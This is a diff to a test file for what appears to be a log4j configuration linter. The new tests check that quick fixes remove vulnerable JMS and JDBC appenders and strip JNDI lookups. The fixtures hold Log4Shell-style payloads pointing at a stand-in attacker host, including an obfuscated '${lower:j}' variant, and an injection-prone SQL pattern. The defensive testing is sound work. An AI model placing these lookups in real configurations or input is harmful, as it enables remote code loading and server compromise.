@@ -87,6 +87,54 @@ test('writes-nowhere: sends the logger to the documented appender, in every synt
   assert.deepEqual(service.validate(openText(after.join('\n'), 'log4j2.properties').document, openText(after.join('\n'), 'log4j2.properties').model).filter((d) => d.code === rules.writesNowhere.id), []);
 });
 
+test('vulnerable-class: removes the appender\'s lines and every reference to it (log4j 1 properties and XML)', () => {
+  const before = lines(
+    'log4j.rootLogger=INFO, jms, filelog',
+    'log4j.appender.filelog=org.apache.log4j.FileAppender',
+    'log4j.appender.jms=org.apache.log4j.net.JMSAppender',
+    'log4j.appender.jms.TopicBindingName=logTopic',
+    'log4j.appender.jms.TopicConnectionFactoryBindingName=ldap://evil.example/x',
+    'log4j.logger.com.example.A = WARN,jms',
+    'log4j.logger.com.example.B = , jms , filelog',
+    '',
+  );
+  const { actions } = fixesFor(before, rules.vulnerableClass.id);
+  assert.deepEqual(actions.map((a) => a.title), ['Remove appender jms and its 3 references']);
+  const after = fix(before, rules.vulnerableClass.id);
+  assert.equal(after, lines('log4j.rootLogger=INFO, filelog', 'log4j.appender.filelog=org.apache.log4j.FileAppender', 'log4j.logger.com.example.A = WARN', 'log4j.logger.com.example.B = , filelog', ''));
+  assert.deepEqual(service.validate(openText(after).document, openText(after).model), [], 'what is left passes the linter');
+
+  const xml = [
+    '<?xml version="1.0" encoding="UTF-8" ?>',
+    '<log4j:configuration xmlns:log4j="http://jakarta.apache.org/log4j/">',
+    '  <appender name="file" class="org.apache.log4j.FileAppender"/>',
+    '  <appender name="db" class="org.apache.log4j.jdbc.JDBCAppender">',
+    '    <param name="sql" value="INSERT INTO log VALUES (\'%m\')"/>',
+    '  </appender>',
+    '  <appender name="async" class="org.apache.log4j.AsyncAppender">',
+    '    <appender-ref ref="db"/>',
+    '    <appender-ref ref="file"/>',
+    '  </appender>',
+    '  <root>',
+    '    <level value="INFO"/>',
+    '    <appender-ref ref="db"/>',
+    '    <appender-ref ref="async"/>',
+    '  </root>',
+    '</log4j:configuration>',
+    '',
+  ];
+  const xmlAfter = xml.filter((_, i) => ![3, 4, 5, 7, 12].includes(i));
+  assert.equal(fix(xml.join('\n'), rules.vulnerableClass.id, 'log4j.xml'), xmlAfter.join('\n'));
+  assertIdempotent(xml.join('\n'), rules.vulnerableClass.id, 'log4j.xml');
+});
+
+test('jndi-lookup: removes the lookup, nested and obfuscated ones whole', () => {
+  const before = lines(...JIRA_HEAD, 'log4j.appender.filelog.layout.ConversionPattern=%d %m ${${lower:j}ndi:ldap://evil.example/a}%n', '');
+  assert.equal(fix(before, rules.jndiLookup.id), lines(...JIRA_HEAD, 'log4j.appender.filelog.layout.ConversionPattern=%d %m %n', ''));
+  const x = '<Configuration>\n  <Properties><Property name="p">${jndi:ldap://evil.example/a}</Property></Properties>\n</Configuration>\n';
+  assert.equal(fix(x, rules.jndiLookup.id, 'log4j2.xml'), x.replace('${jndi:ldap://evil.example/a}', ''));
+});
+
 test('additivity: last line without a final newline; the file\'s `=` spacing', () => {
   const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog=INFO, securitylog');
   assert.equal(fix(before, rules.additivity.id), lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog=INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog=false\n'));
@@ -218,7 +266,12 @@ test('every quick fix of the mistakes fixtures leaves every other line byte-for-
         let j = 0;
         while (j < before.length - i && before[before.length - 1 - j] === after[after.length - 1 - j]) j++;
         const changed = before.length - i - j;
-        assert.ok(changed <= 2, `${name}: "${a.title}" changed ${changed} lines`);
+        const removed = /^Remove appender (\S+)/.exec(a.title)?.[1];
+        if (removed) {
+          // Only deletions: the appender's lines go, the lines that referenced it lose the name.
+          assert.ok(after.length < before.length, `${name}: "${a.title}" removed no line`);
+          for (const l of after) assert.ok(before.includes(l) || before.some((b) => b.includes(removed) && !l.includes(removed) && b.length > l.length), `${name}: "${a.title}" wrote ${l}`);
+        } else assert.ok(changed <= 2, `${name}: "${a.title}" changed ${changed} lines`);
         // And the rule it fixes no longer fires on that line.
         const again = openText(after.join('\n'), fileName);
         const still = service.validate(again.document, again.model).filter((x) => x.code === d.code && x.range.start.line === d.range.start.line && !/Define/.test(a.title));
